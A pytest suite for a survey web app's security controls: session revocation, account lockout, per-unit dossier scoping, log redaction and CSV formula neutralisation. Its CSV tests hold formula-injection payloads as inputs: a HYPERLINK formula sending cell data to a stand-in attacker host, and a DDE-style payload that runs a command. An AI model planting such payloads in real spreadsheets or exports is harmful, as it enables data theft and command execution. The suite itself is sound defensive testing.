"""Trust at the edge (issue 12, points 5-8), through real HTTP against a running gunicorn.

5. Registers keep their owners: a row cannot take or touch another unit's dossier; the history of
   imports is scoped.
6. Sessions end when they end: logout, a new password and a revocation end the session on the
   server (a saved cookie opens nothing); administrators unlock accounts; a stranger's wrong
   passwords never lock a surveyor out of the token URL.
7. Identifiers stay behind the admin door: the paper conflict XML hides them unless an
   administrator asks (audited); dossier codes are compared by key; the access log and the
   README's nginx format redact percent-encoded dossier codes; collector QR files are 0600.
8. Formula-safe CSV: the CSV zip, members.csv and the SMS file quote cells a spreadsheet would
   run, unless raw cells are asked for.

The server runs with TRUSTED_PROXIES=1 so that each test's browser has its own client address
(X-Forwarded-For): the per-address login limit then counts each test's failures apart.
"""
from __future__ import annotations

import csv
import hashlib
import http.client
import io
import itertools
import json
import os
import random
import re
import sqlite3
import stat
import time
import uuid
import zipfile
from pathlib import Path

import pytest
import requests
from flask import Flask
from flask.sessions import SecureCookieSessionInterface

import storage
from tests.harness.instances import fill_instance, standard_answers
from tests.harness.site import PASSWORD, ROOT, LiveServer, cli, create_password_user
from exports.csvcells import formula_safe
from forms.conventions import DOSSIER_IGNORED, DOSSIER_RE, dossier_key
from sampling import plans
from sampling.invitations import sms_csv
from storage import audit, registers, schema
from web_site import UNIT_A, UNIT_B
from xlsforms import write_xlsform

FORM = "tthc_hailong"
NEW_PASSWORD = "mat-khau-moi-0123456789"
_addresses = (f"10.44.{n // 250}.{n % 250 + 1}" for n in itertools.count())


class Browser(requests.Session):
    """A browser of its own address, talking to the live server."""

    def __init__(self, url: str):
        super().__init__()
        self.url = url
        self.headers["X-Forwarded-For"] = next(_addresses)

    def page(self, path: str, **kwargs) -> requests.Response:
        return self.get(self.url + path, timeout=30, **kwargs)

    def csrf(self) -> str:
        html = self.page("/login").text   # a signed-in browser lands on its home page: it has one too
        return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)

    def submit(self, path: str, data: dict | None = None, **kwargs) -> requests.Response:
        """A form POST with the session's CSRF token; redirects are not followed."""
        return self.post(self.url + path, data={**(data or {}), "csrf_token": self.csrf()},
                         allow_redirects=False, timeout=30, **kwargs)

    def login(self, name: str, password: str = PASSWORD) -> requests.Response:
        return self.submit("/login", {"name": name, "password": password})

    def signed_in(self) -> bool:
        response = self.page("/submissions/", allow_redirects=False)
        assert response.status_code in (200, 302), response.status_code
        return response.status_code == 200


def browser(live, name: str | None = None, password: str = PASSWORD) -> Browser:
    b = Browser(live.url)
    if name:
        assert b.login(name, password).status_code == 302
        assert b.signed_in()
    return b


def saved_copy(b: Browser) -> Browser:
    """Another browser holding a copy of b's cookie, as someone who copied it would."""
    copy = Browser(b.url)
    for cookie in b.cookies:
        copy.cookies.set(cookie.name, cookie.value, domain=cookie.domain, path=cookie.path)
    return copy


def session_id(live, b: Browser) -> str:
    """The session id inside b's signed cookie, read with the server's key as Flask reads it."""
    app = Flask("lecteur")
    app.secret_key = (Path(live.data_dir) / "secret_key").read_text().strip()
    serializer = SecureCookieSessionInterface().get_signing_serializer(app)
    return serializer.loads(b.cookies.get("session"))["sid"]


def db_of(live):
    return storage.connect(live.data_dir, migrate=False)


def actions(live, action: str) -> list[dict]:
    db = db_of(live)
    try:
        return [{**r, "details": json.loads(r["details_json"] or "{}")} for r in audit.recent(db, 2000)
                if r["action"] == action]
    finally:
        db.close()


@pytest.fixture(scope="module")
def live(web_site, tmp_path_factory):
    site = web_site.copy(tmp_path_factory.mktemp("edge") / "site")
    for name, role, unit in (("phien_a", "viewer", UNIT_A), ("phien_b", "reporter", UNIT_A),
                             ("phien_c", "viewer", UNIT_A), ("khoa_a", "viewer", UNIT_A),
                             ("khoa_b", "viewer", UNIT_B), ("khoa_c", "viewer", UNIT_A)):
        create_password_user(site.data_dir, name, role, unit)
    server = LiveServer(site.data_dir, env={"TRUSTED_PROXIES": "1"}).start()
    server.tokens = site.tokens
    yield server
    server.stop()


# --- 6. sessions ----------------------------------------------------------------------------

def test_a_saved_cookie_opens_nothing_after_logout(live):
    b = browser(live, "phien_a")
    stolen = saved_copy(b)
    assert stolen.signed_in()
    # the server keeps the SHA-256 of the session id, never the id itself
    sid = session_id(live, b)
    raw = b"".join(p.read_bytes() for p in Path(live.data_dir).glob("hailong.sqlite*"))
    assert hashlib.sha256(sid.encode()).hexdigest().encode() in raw and sid.encode() not in raw
    other_session = browser(live, "phien_a")          # the same account signed in elsewhere
    assert b.submit("/logout").status_code == 302
    assert not b.signed_in()
    # the copied cookie is still correctly signed, but the server has forgotten its session
    response = stolen.page("/submissions/", allow_redirects=False)
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")
    assert stolen.page("/admin/users", allow_redirects=False).status_code == 302
    # logging out ends that session only
    assert other_session.signed_in()


def test_a_new_password_or_a_revocation_ends_every_session(live):
    admin = browser(live, "admin")
    first, second = browser(live, "phien_b"), browser(live, "phien_b")
    kept = saved_copy(first)
    made = admin.submit("/admin/users/phien_b/password", {"password": NEW_PASSWORD, "password_again": NEW_PASSWORD})
    assert made.status_code == 302
    assert not first.signed_in() and not second.signed_in() and not kept.signed_in()
    assert Browser(live.url).login("phien_b", PASSWORD).status_code == 200          # the old one is refused
    again = browser(live, "phien_b", NEW_PASSWORD)
    # the command line's reset ends sessions too
    result = cli(live.data_dir, "users", "password", "phien_b", "--password-stdin", input=PASSWORD + "\n")
    assert result.exit_code == 0, result.output
    assert not again.signed_in()
    assert [a["target"] for a in actions(live, "user.password_reset")].count("phien_b") == 2

    # revocation, by the page
    victim = browser(live, "phien_c")
    copy = saved_copy(victim)
    assert admin.submit("/admin/users/phien_c/revoke", {"confirm": "yes"}).status_code == 302
    assert not victim.signed_in() and not copy.signed_in()
    assert Browser(live.url).login("phien_c").status_code == 200
    db = db_of(live)
    try:
        rows = db.execute("SELECT count(*) FROM web_sessions s JOIN users u ON u.id = s.user_id "
                          "WHERE u.name IN ('phien_b', 'phien_c')").fetchone()[0]
    finally:
        db.close()
    assert rows == 0


def _lock(live, name: str) -> None:
    """Five wrong passwords from a stranger's address lock the account (config LOGIN_MAX_FAILURES)."""
    stranger = Browser(live.url)
    for _ in range(5):
        assert stranger.login(name, "sai-mat-khau-0000").status_code == 200
    assert Browser(live.url).login(name).status_code == 429        # even the right password waits


def test_an_administrator_unlocks_a_locked_account(live):
    _lock(live, "khoa_a")
    admin = browser(live, "admin")
    listing = admin.page("/admin/users").text
    row = re.search(r"<tr>\s*<td>khoa_a</td>.*?</tr>", listing, re.S).group(0)
    assert "Bị khoá tạm" in row and "/admin/users/khoa_a/unlock" in row
    # others may not: a reporter, or an administrator of another unit (404: not theirs to see)
    assert browser(live, "reporter").submit("/admin/users/khoa_a/unlock").status_code == 403
    _lock(live, "khoa_b")
    assert browser(live, "admin_hue").submit("/admin/users/khoa_b/unlock").status_code == 404
    assert Browser(live.url).login("khoa_b").status_code == 429
    # the administrator of the account's unit (or the province) unlocks it
    assert browser(live, "admin_hue").submit("/admin/users/khoa_a/unlock").status_code == 302
    assert Browser(live.url).login("khoa_a").status_code == 302
    unlocked = [a for a in actions(live, "user.unlock") if a["target"] == "khoa_a"]
    assert unlocked and unlocked[0]["actor"] == "admin_hue" and unlocked[0]["details"]["failures"] == 5
    # and from the command line
    result = cli(live.data_dir, "users", "list")
    assert re.search(r"^khoa_b\t.*bị khoá / locked$", result.output, re.M)
    result = cli(live.data_dir, "users", "unlock", "khoa_b")
    assert result.exit_code == 0 and "Unlocked khoa_b (5 failures forgotten)" in result.output
    assert Browser(live.url).login("khoa_b").status_code == 302
    assert cli(live.data_dir, "users", "unlock", "khong_co_ai").exit_code == 1


def test_a_password_reset_lifts_the_lock(live):
    _lock(live, "khoa_c")
    admin = browser(live, "admin")
    assert admin.submit("/admin/users/khoa_c/password",
                      {"password": NEW_PASSWORD, "password_again": NEW_PASSWORD}).status_code == 302
    assert Browser(live.url).login("khoa_c", NEW_PASSWORD).status_code == 302


def test_a_strangers_wrong_passwords_never_lock_the_token_url(live):
    token = live.tokens["dtv_hue"]
    stranger = requests.Session()
    stranger.headers["X-Forwarded-For"] = next(_addresses)
    # more than the per-account (5) and per-address (20) limits, through Basic on Collect's routes
    for _ in range(22):
        assert stranger.get(live.url + "/formList", auth=("dtv_hue", "doan-mo-123456"), timeout=30).status_code == 401
    locked = stranger.get(live.url + "/formList", auth=("dtv_hue", "doan-mo-123456"), timeout=30)
    assert locked.status_code == 401
    assert actions(live, "login.locked")   # the limit did engage
    # the surveyor's token URL works, from the stranger's own address too
    for session in (stranger, requests.Session()):
        listing = session.get(f"{live.url}/key/{token}/formList", timeout=30)
        assert listing.status_code == 200 and FORM.encode() in listing.content
    db = db_of(live)
    try:
        xform = db.execute("SELECT xform FROM form_versions WHERE form_id = ? ORDER BY id DESC", [FORM]).fetchone()[0]
    finally:
        db.close()
    xml = fill_instance(xform, standard_answers(random.Random(8), UNIT_A, "huyen"), f"uuid:{uuid.uuid4()}")
    sent = stranger.post(f"{live.url}/key/{token}/submission", headers={"X-OpenRosa-Version": "1.0"},
                         files={"xml_submission_file": ("submission.xml", xml, "text/xml")}, timeout=30)
    assert sent.status_code == 201


# --- 5. registers keep their owners ---------------------------------------------------------

HEADER = "Mã hồ sơ,Mã đơn vị,Ngày trả kết quả,Tên thủ tục,Người nộp,Số điện thoại\n"


def upload(b: Browser, name: str, text: str) -> requests.Response:
    return b.post(b.url + "/registers/upload", data={"csrf_token": b.csrf()}, allow_redirects=False,
                  files={"file": (name, text.encode("utf-8"), "text/csv")}, timeout=30)


def dossier(live, code: str) -> dict | None:
    db = db_of(live)
    try:
        return storage.db.first_row(
            db, """SELECT d.code, d.unit_code, d.procedure_name, c.applicant_name, c.phone FROM dossiers d
                   LEFT JOIN dossier_contacts c ON c.dossier_id = d.id WHERE d.code = ?""", [code])
    finally:
        db.close()


def test_a_row_cannot_take_another_units_dossier(live):
    admin = browser(live, "admin")
    assert upload(admin, "tinh.csv", HEADER + f"CHU-B-01,{UNIT_B},02/11/2026,Khai sinh,Trần Thị B,0912345678\n"
                  ).status_code == 302
    before = dossier(live, "CHU-B-01")
    assert before == {"code": "CHU-B-01", "unit_code": UNIT_B, "procedure_name": "Khai sinh",
                      "applicant_name": "Trần Thị B", "phone": "0912345678"}
    hue = browser(live, "reporter_hue")
    # the 474 reporter's file names the 481 dossier as one of 474's, with another applicant
    text = (HEADER + f"CUA-474-01,{UNIT_A},03/11/2026,Kết hôn,,\n"
            + f"CHU-B-01,{UNIT_A},03/11/2026,Khai sinh (sửa),Kẻ Lạ,0987654321\n")
    preview = upload(hue, "hue.csv", text)
    assert preview.status_code == 200
    html = preview.text
    words = " ".join(re.sub(r"<[^>]+>", " ", html).split())
    # the problem table: level, (sheet), row 3, column, message
    assert "Lỗi 3 Mã hồ sơ Mã hồ sơ đã thuộc đơn vị khác." in words and "Dòng có lỗi 1" in words
    # the owner is not named: neither its code nor its name
    assert "A Lưới" not in html and f">{UNIT_B}<" not in html and "481" not in html
    assert dossier(live, "CHU-B-01") == before and dossier(live, "CUA-474-01") is None
    # in English too
    hue.submit("/language", {"lang": "en"})
    assert "The dossier code already belongs to another unit." in upload(hue, "hue.csv", text).text
    hue.submit("/language", {"lang": "vi"})
    # skipping the bad row imports the other one only; the 481 dossier keeps its unit and contacts
    sha = re.search(r'/registers/confirm/([0-9a-f]{64})', upload(hue, "hue.csv", text).text).group(1)
    assert hue.submit(f"/registers/confirm/{sha}", {"filename": "hue.csv"}).status_code == 302
    assert dossier(live, "CHU-B-01") == before
    assert dossier(live, "CUA-474-01")["unit_code"] == UNIT_A
    # the same row with the owner's own unit is refused as well: it would change 481's dossier
    same_unit = upload(hue, "hue2.csv", HEADER + f"CHU-B-01,{UNIT_B},03/11/2026,,Kẻ Lạ,0987654321\n")
    assert "Đơn vị ngoài phạm vi" in same_unit.text and dossier(live, "CHU-B-01") == before
    # a province-wide administrator may move it
    assert upload(admin, "tinh2.csv", HEADER + f"CHU-B-01,{UNIT_A},03/11/2026,Khai sinh,,\n").status_code == 302
    assert dossier(live, "CHU-B-01")["unit_code"] == UNIT_A


def test_import_history_and_counts_are_scoped(live):
    admin, hue, aluoi = browser(live, "admin"), browser(live, "reporter_hue"), browser(live, "admin")
    assert upload(admin, "cua-tinh-lich-su.csv", HEADER + f"LS-481-01,{UNIT_B},02/11/2026,,,\n"
                  + f"LS-474-01,{UNIT_A},02/11/2026,,,\n").status_code == 302
    assert upload(hue, "cua-hue-lich-su.csv", HEADER + f"LS-474-02,{UNIT_A},02/11/2026,,,\n").status_code == 302
    hue_page, admin_page = hue.page("/registers/").text, aluoi.page("/registers/").text
    assert "cua-hue-lich-su.csv" in hue_page and "cua-tinh-lich-su.csv" not in hue_page
    assert "cua-hue-lich-su.csv" in admin_page and "cua-tinh-lich-su.csv" in admin_page
    # the dossier count is the account's own units'
    db = db_of(live)
    try:
        subtree = {r[0] for r in db.execute(
            "WITH RECURSIVE t(code) AS (SELECT ? UNION SELECT u.code FROM units u JOIN t ON u.parent_code = t.code) "
            "SELECT code FROM t", [UNIT_A])}
        codes = db.execute("SELECT code, unit_code FROM dossiers").fetchall()
    finally:
        db.close()
    expected_hue = sum(1 for _, unit in codes if unit in subtree)
    assert expected_hue < len(codes)
    shown = lambda html: int(re.search(r"Số hồ sơ trên hệ thống:\s*<strong>([\d.]+)</strong>", html)
                             .group(1).replace(".", ""))
    assert shown(hue_page) == expected_hue and shown(admin_page) == len(codes)
    # the sampling page's summary as well
    assert "cua-tinh-lich-su.csv" not in hue.page("/sampling/").text
    # the command: `register list --unit`
    listed = cli(live.data_dir, "register", "list", "--unit", UNIT_A).output
    assert "cua-hue-lich-su.csv" in listed and "cua-tinh-lich-su.csv" not in listed
    assert f"Dossiers: {expected_hue}." in listed


def test_the_command_imports_as_a_unit(live, tmp_path):
    path = tmp_path / "so.csv"
    path.write_text(HEADER + f"LENH-481-01,{UNIT_B},02/11/2026,,,\n", encoding="utf-8")
    assert cli(live.data_dir, "register", "import", str(path)).exit_code == 0
    path.write_text(HEADER + f"LENH-481-01,{UNIT_A},04/11/2026,,,\n", encoding="utf-8")
    result = cli(live.data_dir, "register", "import", str(path), "--unit", UNIT_A)
    assert result.exit_code == 1 and "Mã hồ sơ đã thuộc đơn vị khác." in result.output
    assert "already belongs to another unit" in result.output and dossier(live, "LENH-481-01")["unit_code"] == UNIT_B


def test_the_import_checks_owners_again_in_its_transaction(live):
    """A dossier imported for another unit between the file's check and its import (another
    worker, another person) is not taken either: the whole import is refused."""
    db = db_of(live)
    try:
        registers.import_dossiers(db, [{"code": "DUA-481-01", "unit_code": UNIT_B, "returned_on": "2026-11-02",
                                        "applicant_name": "Chủ cũ"}],
                                  filename="a.csv", sha256="0" * 64, rows_total=1, rows_skipped=0, actor="test")
        imports = db.execute("SELECT count(*) FROM register_imports").fetchone()[0]
        scope = {UNIT_A}
        with pytest.raises(registers.DossierOwnedElsewhere) as refused:
            registers.import_dossiers(
                db, [{"code": "DUA-474-09", "unit_code": UNIT_A, "returned_on": "2026-11-02"},
                     {"code": "DUA-481-01", "unit_code": UNIT_A, "returned_on": "2026-11-02", "applicant_name": "Lạ"}],
                filename="b.csv", sha256="1" * 64, rows_total=2, rows_skipped=0, actor="reporter_hue",
                scope=scope, actor_unit=UNIT_A)
        assert "Mã hồ sơ đã thuộc đơn vị khác" in refused.value.vi and UNIT_B not in refused.value.describe()
        assert db.execute("SELECT count(*) FROM register_imports").fetchone()[0] == imports
        assert db.execute("SELECT count(*) FROM dossiers WHERE code = 'DUA-474-09'").fetchone()[0] == 0
    finally:
        db.close()
    assert dossier(live, "DUA-481-01")["applicant_name"] == "Chủ cũ"


# --- 7. identifiers behind the admin door -----------------------------------------------------

def _xform(live) -> bytes:
    db = db_of(live)
    try:
        return db.execute("SELECT xform FROM form_versions WHERE form_id = ? ORDER BY id DESC", [FORM]).fetchone()[0]
    finally:
        db.close()


def _conflict(live, code: str) -> tuple[int, bytes]:
    """A paper sheet entered twice with different answers; (conflict id, the later entry's XML)."""
    clerk = browser(live, "reporter")
    made = clerk.submit("/channels/paper/print", {"form": FORM, "unit": UNIT_A, "count": "1"})
    assert made.status_code == 302
    db = db_of(live)
    try:
        sheet = db.execute("SELECT first_sheet FROM paper_prints ORDER BY id DESC").fetchone()[0]
    finally:
        db.close()
    xform = _xform(live)
    url = f"{live.url}/channels/paper/{FORM}/entry/{sheet}/submission"
    xmls = []
    for rating in ("5", "1"):
        answers = standard_answers(random.Random(60), UNIT_A, "huyen")
        answers.update({"main/dossier_code": code, "main/comment": f"Ý kiến {rating}", "main/channel": ""})
        xml = fill_instance(xform, answers, f"uuid:{uuid.uuid4()}")
        sent = clerk.post(url, files={"xml_submission_file": ("submission.xml", xml, "text/xml")},
                          headers={"X-CSRF-Token": clerk.csrf()}, timeout=30)
        assert sent.status_code in (201, 202), sent.text     # 202: kept apart as a conflict
        xmls.append(xml)
    db = db_of(live)
    try:
        conflict_id = db.execute("SELECT max(id) FROM paper_conflicts").fetchone()[0]
    finally:
        db.close()
    return conflict_id, xmls[1]


def test_paper_conflict_xml_hides_identifiers_unless_an_administrator_asks(live):
    code = "GIAY-474-BI-MAT-01"
    conflict_id, later = _conflict(live, code)
    url = f"/channels/paper/conflicts/{conflict_id}/xml"
    for name in ("reporter", "admin"):
        shown = browser(live, name).page(url)
        assert shown.status_code == 200 and shown.headers["Content-Type"].startswith("text/xml")
        assert code.encode() not in shown.content and b"hidden: identifier" in shown.content
        assert "Ý kiến 1".encode() in shown.content                 # the answers are there
        assert re.search(rb"<instanceID>uuid:[0-9a-f-]+</instanceID>", shown.content)
    assert browser(live, "reporter").page(url + "?sensitive=1").status_code == 403
    before = len(actions(live, "paper.conflict_sensitive_view"))
    admin = browser(live, "admin")
    revealed = admin.page(url + "?sensitive=1")
    assert revealed.status_code == 200 and revealed.content == later        # the stored bytes, whole
    entries = actions(live, "paper.conflict_sensitive_view")
    assert len(entries) == before + 1 and entries[0]["actor"] == "admin"
    assert entries[0]["target"] == f"conflict:{conflict_id}"
    # the admin's page offers the audited link; the clerk's does not
    assert "sensitive=1" in admin.page("/channels/paper/conflicts").text
    assert "sensitive=1" not in browser(live, "reporter").page("/channels/paper/conflicts").text


def _public_post(live, xml: bytes, session: requests.Session | None = None) -> requests.Response:
    session = session or requests.Session()
    session.headers["X-Forwarded-For"] = next(_addresses)
    return session.post(f"{live.url}/f/{FORM}/submission?unit={UNIT_A}",
                        files={"xml_submission_file": ("submission.xml", xml, "text/xml")}, timeout=30)


def test_one_answer_per_dossier_whatever_the_case_spaces_or_invisible_characters(live):
    xform = _xform(live)

    def answer(code: str, seed: int) -> bytes:
        answers = standard_answers(random.Random(seed), UNIT_A, "huyen")
        answers["main/dossier_code"] = code
        return fill_instance(xform, answers, f"uuid:{uuid.uuid4()}")

    def stored() -> int:
        db = db_of(live)
        try:
            return db.execute("SELECT count(*) FROM submissions").fetchone()[0]
        finally:
            db.close()

    assert _public_post(live, answer("Key-474-0007", 1)).status_code == 201
    count = stored()
    variants = ["KEY-474-0007", "key-474-0007", " KEY-474-0007 ", "KEY\u200b-474-0007", "\ufeffKEY-474-0007\u2060",
                "KEY-474-\u00ad0007", "KEY-474-0007\u200e", "KEY\u00a0-474-0007\t"]
    for n, variant in enumerate(variants):
        refused = _public_post(live, answer(variant, 10 + n))
        assert refused.status_code == 409, (variant, refused.text)
        assert refused.json()["outcome"] == "dossier_answered"
        assert "KEY-474-0007" in refused.json()["message"]
    # a character that is neither a code character nor one the key ignores: no dossier code
    for invalid in ("KEY\u2062-474-0007", "ＫＥＹ-474-0007", "KEY 474 Ð"):
        refused = _public_post(live, answer(invalid, 40))
        assert refused.status_code == 400 and refused.json()["outcome"] == "dossier_invalid", invalid
        assert refused.json()["message"].startswith("Mã hồ sơ trong phiếu không hợp lệ")
    assert stored() == count
    # the invitation page knows the dossier whatever its case
    page = requests.get(f"{live.url}/f/{FORM}", params={"unit": UNIT_A, "dossier": "key-474-0007"}, timeout=30)
    assert page.status_code == 200 and "đã được đánh giá" in page.text


def test_the_dossier_key_is_the_same_in_python_and_in_sql(tmp_path):
    ignored = {chr(c) for c in schema._DOSSIER_IGNORED_CODES}
    assert ignored == set(DOSSIER_IGNORED) and len(ignored) == len(DOSSIER_IGNORED)
    conn = sqlite3.connect(":memory:")
    sql = "SELECT " + schema.DOSSIER_KEY_SQL.replace("value", "?")
    rng = random.Random(12)
    alphabet = "aZ09.-_/:ĐđÀàéß" + DOSSIER_IGNORED + "\u2062\uff21"
    samples = ["".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 12))) for _ in range(2000)]
    for text in samples + list(DOSSIER_IGNORED):
        assert conn.execute(sql, [text]).fetchone()[0] == dossier_key(text), repr(text)
    # written out by hand: what the key does
    assert dossier_key(" hs-001\u200b\t") == "HS-001"
    assert dossier_key("Đ-001") == "Đ-001" and not DOSSIER_RE.match(dossier_key("Đ-001"))
    # the index the check reads through (storage.channels names it: INDEXED BY) is built on this text
    db = storage.connect(tmp_path)
    index_sql = db.execute("SELECT sql FROM sqlite_master WHERE name = 'identifiers_dossier_key'").fetchone()[0]
    db.close()
    assert index_sql.replace(" ", "").endswith(f"(path,{schema.DOSSIER_KEY_SQL})".replace(" ", ""))


def test_the_access_log_redacts_percent_encoded_dossier_codes(live):
    code = "LOG-474-BI-MAT-77"
    for query in (f"?unit={UNIT_A}&dossier={code}", f"?%64ossier={code}&unit={UNIT_A}",
                  f"?unit={UNIT_A}&%44%4F%53%53%49%45%52={code}", f"?unit={UNIT_A}&d%6f%73sier={code}"):
        # http.client sends the path as written (requests would decode %64 to d first)
        conn = http.client.HTTPConnection("127.0.0.1", live.port, timeout=30)
        conn.request("GET", f"/f/{FORM}{query}")
        assert conn.getresponse().status == 200
        conn.close()
    expected = [f"?unit={UNIT_A}&dossier=[redacted] ", f"?%64ossier=[redacted]&unit={UNIT_A} ",
                f"&%44%4F%53%53%49%45%52=[redacted] ", "&d%6f%73sier=[redacted] "]
    log = ""
    for _ in range(100):      # gunicorn writes its access log a moment after answering
        log = "".join(p.read_text(errors="replace") for p in Path(live.data_dir).glob("server-*.log"))
        if all(line in log for line in expected):
            break
        time.sleep(0.1)
    assert all(line in log for line in expected), [line for line in expected if line not in log]
    assert code not in log


def _nginx_maps() -> list[tuple[str, str, list[tuple[re.Pattern, str]], str]]:
    """The README's nginx `map` blocks: (source variable, target, [(regex, value)], default)."""
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    block = re.search(r"```nginx\n(.*?)```", readme, re.S).group(1)
    maps = []
    for source, target, body in re.findall(r"map \$(\w+) \$(\w+) \{\n(.*?)\n\}", block, re.S):
        entries, default = [], None
        for key, value in re.findall(r'^\s*("[^"]*"|\S+)\s+("[^"]*"|\S+);', body, re.M):
            key, value = key.strip('"'), value.strip('"')
            if key == "default":
                default = value
                continue
            flags = re.IGNORECASE if key.startswith("~*") else 0
            pattern = key[2:] if key.startswith("~*") else key[1:]
            entries.append((re.compile(pattern.replace("(?<", "(?P<"), flags), value))
        maps.append((source, target, entries, default))
    return maps


def _nginx_log_uri(request_uri: str) -> str:
    variables = {"request_uri": request_uri}
    for source, target, entries, default in _nginx_maps():
        value = variables[source]
        for pattern, template in entries:
            match = pattern.search(value)
            if match:
                value = re.sub(r"\$\{?(\w+)\}?", lambda m: match.group(m.group(1)), template)
                break
        else:
            value = variables[default.lstrip("$")]
        variables[target] = value
    return variables["hailong_uri"]


def test_the_readme_nginx_log_format_redacts_tokens_and_dossier_codes():
    code = "000.00.12.H57-261126-0001"
    cases = {f"/f/tthc_hailong?unit=474&dossier={code}": "/f/tthc_hailong?unit=474&dossier=[redacted]",
             f"/f/tthc_hailong?%64ossier={code}&unit=474": "/f/tthc_hailong?dossier=[redacted]",
             f"/channels/qr.png?form=x&DOSSIER%3D{code}": "/channels/qr.png?form=x&dossier=[redacted]",
             "/key/s3cr3t/formList?deviceID=x": "/key/[redacted]/formList?deviceID=x",
             "/f/tthc_hailong?unit=474": "/f/tthc_hailong?unit=474",
             "/f/tthc_hailong?dossiers_seen=1": "/f/tthc_hailong?dossiers_seen=1"}
    for uri, expected in cases.items():
        assert _nginx_log_uri(uri) == expected, uri


def test_collector_qr_files_are_readable_by_the_server_account_only(live, tmp_path):
    old = os.umask(0o022)
    try:
        default = cli(live.data_dir, "users", "create", "dtv_qr_a", "--role", "collector", "--unit", UNIT_A,
                      "--server-url", live.url)
        assert default.exit_code == 0, default.output
        chosen = tmp_path / "qr.png"
        chosen.write_bytes(b"an older file, world-readable")
        os.chmod(chosen, 0o644)
        made = cli(live.data_dir, "users", "create", "dtv_qr_b", "--role", "collector", "--qr", str(chosen),
                   "--server-url", live.url)
        assert made.exit_code == 0, made.output
    finally:
        os.umask(old)
    for path in (Path(live.data_dir) / "collectors" / "dtv_qr_a.png", chosen):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        assert path.read_bytes().startswith(b"\x89PNG")
    assert stat.S_IMODE((Path(live.data_dir) / "collectors").stat().st_mode) & 0o077 == 0


# --- 8. formula-safe CSV -----------------------------------------------------------------------

def test_the_formula_rule():
    # OWASP's list (= + - @, tab, carriage return), written out by hand; plain numbers left alone
    cases = {"=1+1": "'=1+1", "+1+1": "'+1+1", "-1+1": "'-1+1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx",
             "\r=x": "'\r=x", '=HYPERLINK("http://x","y")': '\'=HYPERLINK("http://x","y")', "-": "'-",
             "-5": "-5", "+84912345678": "+84912345678", "-105.75": "-105.75", "-.5": "-.5", "1e-3": "1e-3",
             "-1e5": "-1e5", "-0x1F": "'-0x1F", "- 5": "'- 5", "a=1": "a=1", " =1": " =1", "": "", "Huế": "Huế"}
    for value, expected in cases.items():
        assert formula_safe(value) == expected, repr(value)
    assert formula_safe(-5) == -5 and formula_safe(None) is None


FORMULAS = {"ghi_chu": '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")', "so_tien": "-5",
            "toa_do": "-12.75", "lenh": "@SUM(1+1)*cmd|' /C calc'!A0", "cong": "+1+2"}


def _formula_form(live, tmp_path) -> bytes:
    survey = [["type", "name", "label"], ["text", "unit", "Đơn vị"], ["text", "ghi_chu", "Ghi chú"],
              ["decimal", "so_tien", "Số tiền"], ["decimal", "toa_do", "Toạ độ"], ["text", "lenh", "Lệnh"],
              ["text", "cong", "Cộng"]]
    path = write_xlsform(tmp_path / "cong_thuc.xlsx", survey, [["list_name", "name", "label"]],
                         {"form_id": "cong_thuc", "version": "1", "form_title": "Công thức"})
    assert cli(live.data_dir, "forms", "publish", str(path)).exit_code == 0
    db = db_of(live)
    try:
        return db.execute("SELECT xform FROM form_versions WHERE form_id = 'cong_thuc'").fetchone()[0]
    finally:
        db.close()


def test_the_csv_zip_neutralises_formulas_unless_raw_cells_are_asked(live, tmp_path):
    xform = _formula_form(live, tmp_path)
    xml = fill_instance(xform, {"unit": UNIT_A, **FORMULAS}, f"uuid:{uuid.uuid4()}")
    sent = requests.post(f"{live.url}/key/{live.tokens['dtv_hue']}/submission", headers={"X-OpenRosa-Version": "1.0"},
                         files={"xml_submission_file": ("submission.xml", xml, "text/xml")}, timeout=30)
    assert sent.status_code == 201

    def rows(**params) -> dict:
        response = requests.get(f"{live.url}/api/v1/forms/cong_thuc/export.csv.zip", params=params,
                                auth=("admin", PASSWORD), timeout=60)
        assert response.status_code == 200, response.text
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            table = list(csv.DictReader(io.StringIO(archive.read("cong_thuc.csv").decode("utf-8"), newline="")))
        assert len(table) == 1
        return table[0]

    safe = rows()
    for name, value in FORMULAS.items():
        expected = value if name in ("so_tien", "toa_do") else "'" + value      # numbers stay numbers
        assert safe[name] == expected, name
    raw = rows(raw_cells="1")
    assert {name: raw[name] for name in FORMULAS} == FORMULAS
    assert requests.get(f"{live.url}/api/v1/forms/cong_thuc/export.csv.zip", params={"raw_cells": "x"},
                        auth=("admin", PASSWORD), timeout=30).status_code == 400
    logged = [a["details"] for a in actions(live, "export.csvzip") if a["target"] == "cong_thuc"]
    assert logged[0].get("raw_cells") is True and not logged[1].get("raw_cells")
    # the command's flag
    out = tmp_path / "raw.zip"
    assert cli(live.data_dir, "export", "cong_thuc", "--format", "csvzip", "--out", str(out), "--raw-cells").exit_code == 0
    with zipfile.ZipFile(out) as archive:
        assert FORMULAS["ghi_chu"].replace('"', '""') in archive.read("cong_thuc.csv").decode("utf-8")


def test_members_csv_and_sms_file_neutralise_formulas(live):
    admin = browser(live, "admin")
    bad = '=HYPERLINK("http://ke-gian.example","Xem")'
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(
        [f"CT-474-{n:02d}", UNIT_A, "05/12/2026", bad, "", f"091234567{n}"] for n in range(3))
    assert upload(admin, "cong-thuc.csv", HEADER + out.getvalue()).status_code == 302
    db = db_of(live)
    try:
        rule = plans.parse_rule(method="fixed", margin=None, fixed_size="3", by_field=False,
                                reserve_percent="0", seed="ct")
        plan_id = plans.create(db, form_id=FORM, period="2026-12", unit_code=UNIT_A, rule=rule, actor="test")
    finally:
        db.close()

    def cells(response) -> list[dict]:
        assert response.status_code == 200, response.text
        return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))

    members = cells(admin.page(f"/sampling/plans/{plan_id}/members.csv"))
    assert len(members) == 3 and {m["procedure_name"] for m in members} == {"'" + bad}
    raw = cells(admin.page(f"/sampling/plans/{plan_id}/members.csv?raw_cells=1"))
    assert {m["procedure_name"] for m in raw} == {bad}
    # the SMS file goes through the same writer: its cells are safe by construction here, so the
    # writer is checked with a row that is not
    sms = cells(admin.page(f"/sampling/plans/{plan_id}/sms.csv?which=all"))
